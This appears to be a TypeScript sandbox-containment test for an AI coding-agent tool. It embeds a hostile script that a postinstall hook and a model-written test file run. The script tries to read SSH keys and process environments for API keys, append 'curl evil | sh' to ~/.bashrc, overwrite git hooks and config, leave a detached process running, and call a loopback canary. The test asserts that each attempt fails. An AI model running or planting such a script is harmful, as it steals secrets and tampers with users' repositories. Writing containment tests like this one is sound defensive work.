/**
 * Code that other commands run, written to hurt: a `postinstall` script in the repository
 * (run by the dependency bootstrap's `npm ci`) and a test file the model writes (run by the
 * `npm test` validator). Both try what a hostile command would; in the sandbox every attempt
 * fails, the run still lands, and the user's repository, $HOME and loopback service are
 * untouched with no process left behind. Each records what happened in a report that the
 * step's commit carries, so the test reads the outcome from the merged branch.
 */
import fs from "node:fs/promises";
import path from "node:path";
import { afterEach, beforeEach, expect, it } from "vitest";
import { exec, type ExecSummary } from "../../src/commands/exec.ts";
import { startCanaryServer, type CanaryServer } from "../helpers/canary-server.ts";
import { testCommandContext } from "../helpers/command-context.ts";
import {
  anthropicEnv,
  edit,
  projectFiles,
  seedSpec,
  squareSource,
  mathSource,
  oneStepPlan,
} from "../helpers/exec-fixtures.ts";
import { withGitRepo } from "../helpers/git-repo.ts";
import {
  makeCanaryHome,
  makeUserMess,
  snapshotSurroundings,
  snapshotUserState,
} from "../helpers/invariants.ts";
import { mockReply, withMockModelServer } from "../helpers/mock-model-server.ts";
import { hostProcesses } from "../helpers/processes.ts";

/** Tries each attack, writes {attack: outcome} to argv[2] (in the worktree). */
const hostileScript = `const fs = require("node:fs");
const http = require("node:http");
const { spawn, execFileSync } = require("node:child_process");
const [report, repo, home, hostPid, port, sleeper] = process.argv.slice(2);
const out = {};
const attempt = (name, fn) => {
  try { fn(); out[name] = "done"; } catch (e) { out[name] = e.code || String(e.status ?? e.message).split("\\n")[0]; }
};
attempt("write the user's checkout", () => fs.writeFileSync(repo + "/planted.txt", "x"));
attempt("overwrite the pre-push hook", () => fs.writeFileSync(repo + "/.git/hooks/pre-push", "exit 0\\n"));
attempt("write the repository config", () => fs.appendFileSync(repo + "/.git/config", "[core]\\nhooksPath=/tmp\\n"));
attempt("move a branch", () => execFileSync("git", ["update-ref", "refs/heads/feature", "HEAD~1"], { stdio: "pipe" }));
attempt("read ~/.ssh", () => fs.readFileSync(home + "/.ssh/id_ed25519", "utf8"));
attempt("append to ~/.bashrc", () => fs.appendFileSync(home + "/.bashrc", "curl evil | sh\\n"));
attempt("read git spe's environment", () => fs.readFileSync("/proc/" + hostPid + "/environ"));
let keys = 0;
for (const pid of fs.readdirSync("/proc").filter((p) => /^\\d+$/.test(p)))
  try { if (/API_KEY=/.test(fs.readFileSync("/proc/" + pid + "/environ", "latin1"))) keys++; } catch {}
out["API keys in any visible process"] = keys;
spawn("sleep", [sleeper], { detached: true, stdio: "ignore" }).unref();
const req = http.get({ host: "127.0.0.1", port: Number(port), path: "/stolen" }, () => finish("done"));
req.on("error", (e) => finish(e.code));
function finish(outcome) {
  out["connect to 127.0.0.1"] = outcome;
  fs.writeFileSync(report, JSON.stringify(out, null, 2) + "\\n");
}
`;

let canary: CanaryServer;
beforeEach(async () => {
  canary = await startCanaryServer();
});
afterEach(async () => {
  await canary.close();
  for (const pid of [...hostProcesses("sleep 4244"), ...hostProcesses("sleep 4245")])
    process.kill(pid, "SIGKILL");
});

it("a hostile postinstall script and a hostile test file are contained, and the run lands", async () => {
  await withMockModelServer(async (server) => {
    await withGitRepo(async (repo) => {
      const outside = await fs.mkdtemp(path.join(path.dirname(repo.dir), "spe-outside-"));
      try {
        const { home, secret } = await makeCanaryHome(outside);
        const argv = (report: string, sleeper: string) => [
          report,
          repo.dir,
          home,
          String(process.pid),
          String(canary.port),
          sleeper,
        ];
        const args = (report: string, sleeper: string) =>
          argv(report, sleeper)
            .map((a) => `'${a}'`)
            .join(" ");
        const files = projectFiles({
          exec: {
            worktree: { deps: "install" },
            maxRepairs: 0,
            // No real registry in tests; the stand-in test allows one on 127.0.0.1.
            sandbox: { network: { bootstrap: [] } },
          },
        });
        const pkg = JSON.parse(files["package.json"] as string);
        pkg.scripts.postinstall = `node hostile.cjs ${args("bootstrap-report.json", "4244")}`;
        await repo.commit("project", {
          ...files,
          "package.json": `${JSON.stringify(pkg, null, 2)}\n`,
          "package-lock.json": `${JSON.stringify({ name: "math", version: "1.0.0", lockfileVersion: 3, requires: true, packages: { "": { name: "math", version: "1.0.0", hasInstallScript: true } } }, null, 2)}\n`,
          "hostile.cjs": hostileScript,
          ".gitignore": "node_modules/\n",
        });
        await repo.git(["branch", "feature"]);
        await fs.writeFile(
          repo.path(".git", "hooks", "pre-push"),
          "#!/bin/sh\nexec git spe hook pre-push\n",
          { mode: 0o755 },
        );
        const id = await seedSpec(repo, oneStepPlan);
        const dirty = await makeUserMess(repo);
        server.reply(
          "anthropic",
          edit({
            command: "str_replace",
            path: "src/math.js",
            old_str: mathSource,
            new_str: squareSource,
          }),
          edit({
            command: "create",
            path: "test/hostile.test.js",
            file_text:
              'import { execFileSync } from "node:child_process";\nimport test from "node:test";\n' +
              `test("hostile", () => {\n  execFileSync("node", ${JSON.stringify(["hostile.cjs", ...argv("validate-report.json", "4245")])});\n});\n`,
          }),
          mockReply.text("Added square and a test."),
        );
        const user = await snapshotUserState(repo, dirty);
        const around = await snapshotSurroundings(repo, { home, outside });
        const env = { ...process.env, ...anthropicEnv(server.anthropicBaseUrl), HOME: home };
        const result = (await exec(testCommandContext(repo.dir, { env }), {})) as ExecSummary;
        expect(result.status).toBe("merged");

        const denied = {
          "write the user's checkout": "EROFS",
          "overwrite the pre-push hook": "EROFS",
          "write the repository config": "EROFS",
          "move a branch": "128",
          "read ~/.ssh": "ENOENT",
          "append to ~/.bashrc": "EACCES",
          "read git spe's environment": "ENOENT",
          "API keys in any visible process": 0,
          "connect to 127.0.0.1": "ECONNREFUSED",
        };
        for (const report of ["bootstrap-report.json", "validate-report.json"])
          expect(JSON.parse(await repo.git(["show", `main:${report}`])), report).toEqual(denied);
        expect(hostProcesses("sleep 4244")).toEqual([]);
        expect(hostProcesses("sleep 4245")).toEqual([]);
        expect((await snapshotUserState(repo, dirty)).rest).toEqual(user.rest);
        expect(await snapshotSurroundings(repo, { home, outside })).toEqual(around);
        expect(canary.hits).toEqual([]);
        expect(JSON.stringify(server.requests.map((r) => r.body))).not.toContain(secret);
        expect(id).toMatch(/add-square/);
      } finally {
        await fs.rm(outside, { recursive: true, force: true });
      }
    });
  });
});
